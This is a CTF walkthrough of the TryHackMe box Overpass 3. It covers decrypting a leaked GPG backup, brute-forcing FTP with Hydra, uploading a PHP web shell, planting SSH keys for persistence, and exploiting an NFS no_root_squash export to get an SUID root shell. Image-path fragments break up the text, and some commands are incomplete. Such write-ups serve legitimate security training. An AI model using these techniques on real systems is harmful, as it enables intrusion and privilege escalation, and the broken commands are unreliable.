You know them, you love them, your favourite group of broke computer science students have another business venture! Show them that they probably should hire someone for security…

This is Overpass 3 - Hosting from THM. It’s medium rated. I add overpass3 to /etc/hosts.


We’ve got FTP, SSH and HTTP on the standard ports.


No anonymous access, we’ll move on for now.


I started trying dirsearch and I must say it’s pretty comfy:

root@kali:/opt/tryhackme/overpass3# python3 /opt/dirsearch/dirsearch.py -u http://overpass3

It comes with it’s own wordlist (although you can use any), and it finds something useful:

[05:22:59] 301 - 233B - /backups -> http://overpass3/backups/
[05:23:00] 200 - 894B - /backups/

From there, we get a file called backup.zip, which is not password protected andwhich contains two files:

12K -rw-r–r– 1 root root 11K Nov 8 16:18 CustomerDetails.xlsx.gpg
4.0K -rw——- 1 root root 3.5K Nov 8 16:16 priv.key

This is PGP stuff:

root@kali:/opt/tryhackme/overpass3/temporary# gpg --import priv.key
gpg: key C9AE71AB3180BC08: "Paradox <paradox@overpass.thm>" not changed
gpg: key C9AE71AB3180BC08: secret key imported
gpg: Total number processed: 1
gpg:              unchanged: 1
gpg:       secret keys read: 1
gpg:  secret keys unchanged: 1
root@kali:/opt/tryhackme/overpass3/temporary# gpg --decrypt CustomerDetails.xlsx.gpg > details.xlsx
gpg: encrypted with 2048-bit RSA key, ID 9E86A1C63FB96335, created 2020-11-08
      "Paradox <paradox@overpass.thm>"

This gets us an Excel file containing 3 usernames and passwords.Which service to use this on? We can try them both:

root@kali:/opt/tryhackme/overpass3# hydra -L users.txt -P pass.txt ftp://overpass3
Hydra v9.1 (c) 2020 by van Hauser/THC & David Maciejak - Please do not use in military or secret service organizations, or for illegal purposes (this is non-binding, these *** ignore laws and ethics anyway).

Hydra (https://github.com/vanhauser-thc/thc-hydra) starting at 2021-01-14 05:31:48
[DATA] max 9 tasks per 1 server, overall 9 tasks, 9 login tries (l:3/p:3), ~1 try per task
[DATA] attacking ftp://overpass3:21/
[21][ftp] host: overpass3   login: paradox   password: REDACTED
1 of 1 target successfully completed, 1 valid password found
Hydra (https://github.com/vanhauser-thc/thc-hydra) finished at 2021-01-14 05:31:53
root@kali:/opt/tryhackme/overpass3#hydra -L users.txt -P pass.txt ssh://overpass3
Hydra v9.1 (c) 2020 by van Hauser/THC & David Maciejak - Please do not use in military or secret service organizations, or for illegal purposes (this is non-binding, these *** ignore laws and ethics anyway).

Hydra (https://github.com/vanhauser-thc/thc-hydra) starting at 2021-01-14 05:32:01
[WARNING] Many SSH configurations limit the number of parallel tasks, it is recommended to reduce the tasks: use -t 4
[DATA] max 9 tasks per 1 server, overall 9 tasks, 9 login tries (l:3/p:3), ~1 try per task
[DATA] attacking ssh://overpass3:22/
[ERROR] target ssh:// does not support password authentication (method reply 36).

Right, so we can log in to FTP, but SSH is key basedonly. Goodo.

FTP, again

We log in to FTP and we get the root of the webserver. A little testing shows we can upload to this directory, so I upload something simple in a file called cmd.php:

<?php system($_GET['cmd']);?>And I send it this from Burpsuite:


to get a shell.


The host is running CentOS and we are the Apache user. We don’t seem to have which; no matter.

sh-4.4$ id
uid=48(apache) gid=48(apache) groups=48(apache)
sh-4.4$ which python3which python3
which: no python3 in ((null))
sh-4.4$ ls /usr/bin | grep python
ls /usr/bin | grep python
sh-4.4$ /usr/bin/python3 -c 'import pty;pty.spawn("/bin/bash");'
/usr/bin/python3 -c 'import pty;pty.spawn("/bin/bash");'

From bash, we can su to paradox using the same password as for the FTP account. He has a .ssh directory in his home, and we can add our key to his authorized_keys file to get SSH access:

[paradox@localhost .ssh]$ printf 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQCeyp%%AND THE REST OF MY PUBLIC KEY%%/orR1AjlnSE= root@kali\n' >> authorized_keys

Now we can just do:

root@kali:/opt/tryhackme/overpass3# ssh paradox@overpass3
Last login: Thu Jan 14 10:40:45 2021
[paradox@localhost ~]$


As paradox I run linpeas, which finds this in /etc/exports:

/home/james *(rw,fsid=0,sync,no_root_squash,insecure)

However thinking back we had no port 2049, so NFS is only open on the localhost. We can’t mount the share on this host, because we aren’t root. Hmm.

SSH Tunnel

We can mount the share using an SSH tunnel on our local machine. First, we set up the tunnel:

root@kali:/opt/tryhackme/overpass3# ssh -L 3049: paradox@overpass3

Next, we mount the share:

root@kali:/opt/tryhackme/overpass3# mount -t nfs -o port=3049,vers=4 ./mnt

Where ./mnt was a local folder I’d created. Note this syntax caused me quite a few headaches; particularly the path part - NFS4 is different to NFS3 and the shared path is considered / when you mount it.

From there, we could get the user flag:

root@kali:/opt/tryhackme/overpass3/mnt# ls -lash
total 20K
   0 drwx--- 3 james kali  112 Nov 17 16:15 .
4.0K drwxr-xr-x 5 root  root 4.0K Jan 13 05:48 ..
   0 lrwxrwxrwx 1 root  root    9Nov  8 16:45 .bash_history -> /dev/null
4.0K -rw-r--r-- 1 james kali   18 Nov  8  2019 .bash_logout
4.0K -rw-r--r-- 1 james kali  141 Nov  8  2019 .bash_profile
4.0K -rw-r--r-- 1 james kali  312 Nov  8  2019 .bashrc
   0 drwx--- 2 james kali   61 Nov  7 21:20 .ssh
4.0K -rw--- 1 james kali   38 Nov 17 16:15 user.flag

Note there was also a web flag belonging to Apache; it was in the home directory for the apache user. We can find that by looking in /etc/passwd; it’s /usr/share/httpd. Anyway, onwards …Privesc was now a fairly classic NFS technique - make a copy of bash in our mounted drive and give it the SUID bit:

root@kali:/opt/tryhackme/overpass3/mnt# cp /bin/bash .
root@kali:/opt/tryhackme/overpass3/mnt# chmod +s bash

Doesn’t look like much, does it? While I’m at it, I add my SSH public key to the authorized_keys file for james just like I did for paradox.


root@kali:/opt/tryhackme/overpass3# ssh james@overpass3
Last login: Thu Jan 14 09:15:57 2021 from
[james@localhost ~]$ pwd
[james@localhost ~]$ ls -lash
total 1.2M
   0 drwx---. 4 james james  138 Jan 14 10:14 .
   0 drwxr-xr-x. 4 root  root    34 Nov  8 19:34 ..1.2M -rwsr-sr-x  1 root  root  1.2M Jan 14 10:14 bash
   0 lrwxrwxrwx. 1 root  root     9 Nov  8 21:45 .bash_history -> /dev/null
4.0K -rw-r--r--. 1 james james   18 Nov  8  2019 .bash_logout
4.0K -rw-r--r--. 1 james james  141 Nov  8  2019 .bash_profile
4.0K -rw-r--r--. 1 james james  312 Nov  8  2019 .bashrc
   0 drwx---  2 james james   44 Jan 14 09:17 .gnupg
   0 drwx---. 2 james james   61 Nov  8 02:20 .ssh
4.0K -rw---. 1 james james   38 Nov 17 21:15 user.flag
[james@localhost ~]$ ./bash -p
./bash: /lib64/libtinfo.so.6: no version information available (required by ./bash)
bash-5.1# iduid=1000(james) gid=1000(james) euid=0(root) egid=0(root) groups=0(root),1000(james)

And that was that.


I haven’t written anything for a bit; I’ve been trying (and failing) on EnterPrize, a new hard box on THM. I’ve enumerated the box, found the hidden subdomain (maintest.enterprize.thm) and poked around. It’s typo3, and I am fairly sure the exploit is a PHP deserialization asdescribed here using a leaked encryptionKey, which can be found on the box and which I have. However I have tried the exploit asdescribed and so far I can’t get it to work. Ah well, it’s kept me entertained anyway.